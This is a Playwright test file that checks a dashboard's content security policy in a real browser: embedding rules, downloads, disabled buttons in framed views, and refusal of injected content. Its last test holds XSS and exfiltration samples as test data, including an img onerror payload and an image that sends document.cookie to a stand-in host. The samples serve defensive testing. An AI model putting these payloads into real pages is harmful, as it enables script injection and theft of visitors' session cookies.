"""The pages under their content security policy in a real browser: all of them work, and what is foreign is refused."""

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, expect
from pytest_httpserver import HTTPServer

from tests.dashboard.test_browser import REFUSALS, SHOWN_MS, look_behind_the_tabs, settled

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def watched(chromium: Browser) -> Iterator[tuple[Page, list[str]]]:
    """One page for the whole walk, so that the site's files are fetched once, and what its policy refused."""
    context = chromium.new_context(viewport={"width": 1280, "height": 900}, reduced_motion="reduce", locale="en-GB")
    context.add_init_script(REFUSALS)
    page, refused = context.new_page(), list[str]()

    def note(message: ConsoleMessage) -> None:
        if message.text.startswith("REFUSED") or "Content Security Policy" in message.text:
            refused.append(message.text)

    page.on("console", note)
    page.on("pageerror", lambda error: refused.append(str(error)))
    yield page, refused
    context.close()


@pytest.fixture
def page_and_refused(watched: tuple[Page, list[str]]) -> tuple[Page, list[str]]:
    """The same page, with nothing refused yet."""
    watched[1].clear()
    return watched


@pytest.mark.parametrize("path", ["/", "/speed"])
def test_nothing_of_a_page_with_measured_figures_is_refused(
    path: str, served_site: str, page_and_refused: tuple[Page, list[str]]
) -> None:
    """Without them, and of all other pages: in tests/dashboard/test_browser.py."""
    page, refused = page_and_refused
    page.goto(served_site + path)
    settled(page)
    look_behind_the_tabs(page)
    page.wait_for_timeout(500)
    assert refused == []


def test_charts_tables_files_and_pictures_work(served_site: str, page_and_refused: tuple[Page, list[str]]) -> None:
    page, refused = page_and_refused
    page.goto(f"{served_site}/adoption?metric=stars&system=pytorch&system=tensorflow")
    settled(page)
    expect(page.locator(".js-plotly-plot .scatterlayer path.js-line").first).to_be_attached(timeout=SHOWN_MS)
    page.locator(".js-plotly-plot").first.hover()
    with page.expect_download(timeout=SHOWN_MS) as picture:
        page.locator('.modebar-btn[data-title*="PNG" i], .modebar-btn[data-title*="picture" i]').first.click()
    assert Path(picture.value.path()).read_bytes().startswith(b"\x89PNG")
    with page.expect_download(timeout=SHOWN_MS) as document:
        page.get_by_role("button", name="Download JSON").first.click()
    assert '"rows"' in Path(document.value.path()).read_text(encoding="utf-8")
    page.get_by_role("tab", name="Table").first.click()
    table = page.locator("[data-testid=stDataFrame]").first
    table.hover(timeout=SHOWN_MS)
    toolbar = page.locator("[data-testid=stElementToolbar]", has=page.get_by_label("Search")).first
    expect(toolbar.get_by_label("Search")).to_be_visible()
    expect(toolbar.get_by_label("Download as CSV")).to_be_hidden()  # it would write cells that a spreadsheet runs
    expect(toolbar.get_by_label("Download as CSV")).to_be_attached()
    assert refused == []


def test_a_figure_stands_in_a_page_of_another_site_and_a_page_does_not(
    served_site: str, page_and_refused: tuple[Page, list[str]], httpserver: HTTPServer
) -> None:
    page, refused = page_and_refused
    figure = f"{served_site}/adoption?metric=stars&view=share&figure=adoption-stars&embed=true"
    for path, source in (("/figure", figure), ("/page", f"{served_site}/speed")):
        body = f'<iframe src="{source}" width="900" height="640"></iframe>'
        httpserver.expect_request(path).respond_with_data(body, content_type="text/html")
    other = httpserver.url_for("/figure").replace("127.0.0.1", "localhost")
    page.goto(other)
    inside = page.frame_locator("iframe")
    expect(inside.get_by_role("link", name="Open in Framescope")).to_be_visible(timeout=SHOWN_MS)
    expect(inside.locator(".js-plotly-plot .scatterlayer path.js-line").first).to_be_attached(timeout=SHOWN_MS)
    assert refused == []
    page.goto(other.replace("/figure", "/page"))
    page.wait_for_timeout(1_000)
    assert page.frames[1].url.startswith("chrome-error:")
    assert "frame-ancestors" in "".join(refused)


@pytest.mark.parametrize("path", ["speed", "capabilities", "code"])
def test_what_is_framed_has_nothing_to_press(
    path: str, served_site: str, page_and_refused: tuple[Page, list[str]]
) -> None:
    """Else a page laid over the frame could have its visitor start something on a site of this machine."""
    page, _ = page_and_refused
    page.goto(f"{served_site}/{path}?embed=true")
    expect(page.locator("[data-testid=stStatusWidget]")).to_have_count(0, timeout=SHOWN_MS)
    expect(page.locator("button", has_text=re.compile("Run")).first).to_be_attached(timeout=SHOWN_MS)
    expect(page.get_by_role("button", name=re.compile("Run"))).to_have_count(0)


ADDED = "() => { const e = document.createElement('%s'); e.%s; document.body.append(e) }"


@pytest.mark.parametrize(
    ("wicked", "directive"),
    [
        (ADDED % ("script", "text = 'window.stolen = 1'"), "script"),
        (ADDED % ("div", "innerHTML = '<img src=x onerror=\"window.stolen = 1\">'"), "script"),
        ("() => { setTimeout('window.stolen = 1') }", "script"),
        (ADDED % ("img", "src = 'OTHER/?' + document.cookie"), "img"),
        ("() => { fetch('OTHER/', {method: 'POST', body: 'x'}).catch(() => {}) }", "connect"),
        (ADDED % ("iframe", "src = 'OTHER/'"), "frame"),
        (ADDED % ("script", "src = 'OTHER/x.js'"), "script"),
    ],
)
def test_what_slipped_into_a_page_can_neither_run_nor_leave(
    wicked: str,
    directive: str,
    served_site: str,
    page_and_refused: tuple[Page, list[str]],
    httpserver: HTTPServer,
) -> None:
    page, refused = page_and_refused
    if not page.url.startswith(f"{served_site}/data"):
        page.goto(f"{served_site}/data")
        settled(page)
        refused.clear()
    page.evaluate(wicked.replace("OTHER", httpserver.url_for("").rstrip("/")))
    page.wait_for_timeout(300)
    assert [told for told in refused if told.startswith(f"REFUSED {directive}")], refused
    assert page.evaluate("() => window.stolen") is None
    assert httpserver.log == []
